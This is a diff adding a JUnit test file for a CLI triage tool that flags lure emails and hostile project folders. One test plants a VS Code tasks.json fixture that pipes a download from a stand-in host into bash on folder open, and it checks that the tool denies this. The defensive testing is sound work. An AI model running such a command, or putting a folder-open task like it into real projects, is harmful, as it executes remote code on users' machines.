@@ -1,0 +1,104 @@
+package dev.countersign.cli.triage;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.countersign.cli.Run;
+import dev.countersign.model.json.Json;
+import java.io.IOException;
+import java.io.RandomAccessFile;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import tools.jackson.databind.JsonNode;
+
+/** The command, each time with a reader in a process of its own. */
+class TriageCommandTest {
+  private static final String EXAMPLES = "../examples/";
+
+  @TempDir Path folder;
+
+  @Test
+  void theLureIsDeniedInThreeSentencesWithWhatToDo() {
+    Run run = Run.of("triage", EXAMPLES + "recruiter.eml");
+    assertThat(run.exitCode()).as(run.out()).isEqualTo(4);
+    assertThat(run.out()).startsWith("DENY");
+    String why = run.out().split("\nWhy\n", -1)[1].split("\n\n", -1)[0];
+    assertThat(why.lines().filter(line -> line.startsWith("  ✗ "))).hasSize(3);
+    assertThat(run.out()).contains("\nWhat to do\n").doesNotContain("northgate-talent.example");
+  }
+
+  @Test
+  void theHonestRecruiterIsAllowed() {
+    Run run = Run.of("triage", EXAMPLES + "honest-recruiter.eml");
+    assertThat(run.exitCode()).as(run.out()).isZero();
+    assertThat(run.out()).startsWith("ALLOW");
+  }
+
+  @Test
+  void pastedTextComesFromStandardInput() {
+    Run run = Run.withInput("Shall we have lunch at noon?", "triage", "-");
+    assertThat(run.exitCode()).as(run.out()).isZero();
+  }
+
+  @Test
+  void aFolderIsReadAsAProject() throws IOException {
+    Path app = Files.createDirectories(folder.resolve("app/.vscode"));
+    Files.writeString(
+        app.resolve("tasks.json"),
+        """
+        {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell",
+          "command": "curl -s https://theme.example/a | bash",
+          "runOptions": {"runOn": "folderOpen"}}]}
+        """);
+    Run run = Run.of("triage", "--json", folder.resolve("app").toString());
+    assertThat(run.exitCode()).as(run.out()).isEqualTo(4);
+    JsonNode answer = Json.parse(run.out(), "The answer");
+    assertThat(answer.get("outcome").asString()).isEqualTo("deny");
+    assertThat(run.out()).contains(".vscode/tasks.json").contains("theme[.]example");
+  }
+
+  @Test
+  void aFileOfTwoGibibytesIsAnswered() throws IOException {
+    Path large = folder.resolve("large.bin");
+    try (RandomAccessFile file = new RandomAccessFile(large.toFile(), "rw")) {
+      file.setLength(2L << 30);
+    }
+    Run run = Run.of("triage", large.toString());
+    assertThat(run.exitCode()).as(run.out() + run.err()).isIn(0, 3);
+    assertThat(run.out()).contains("large.bin");
+  }
+
+  @Test
+  void theCompanyAndOwnRulesAreRead() throws IOException {
+    Path company = folder.resolve("company.json");
+    Files.writeString(company, "{\"domains\": [\"lindenpay.example\"]}");
+    Run run = Run.of("triage", "--company", company.toString(), EXAMPLES + "honest-recruiter.eml");
+    assertThat(run.exitCode()).as(run.out()).isZero();
+  }
+
+  @Test
+  void aMistakeInTheCompanyIsSaid() throws IOException {
+    Path company = folder.resolve("company.json");
+    Files.writeString(company, "{\"domain\": []}");
+    Run run = Run.of("triage", "--company", company.toString(), EXAMPLES + "honest-recruiter.eml");
+    assertThat(run.exitCode()).isEqualTo(2);
+    assertThat(run.err()).contains("\"domain\"");
+  }
+
+  @Test
+  void aMistakeInTheRulesIsSaid() throws IOException {
+    Path rules = folder.resolve("rules.yaml");
+    Files.writeString(rules, "rules: 7");
+    Run run = Run.of("triage", "--rules", rules.toString(), EXAMPLES + "honest-recruiter.eml");
+    assertThat(run.exitCode()).isEqualTo(2);
+    assertThat(run.err()).contains("rules.yaml");
+  }
+
+  @Test
+  void whatIsNotThereIsSaid() {
+    Run run = Run.of("triage", folder.resolve("nothing.eml").toString());
+    assertThat(run.exitCode()).isEqualTo(2);
+    assertThat(run.err()).contains("nothing.eml does not exist");
+  }
+}
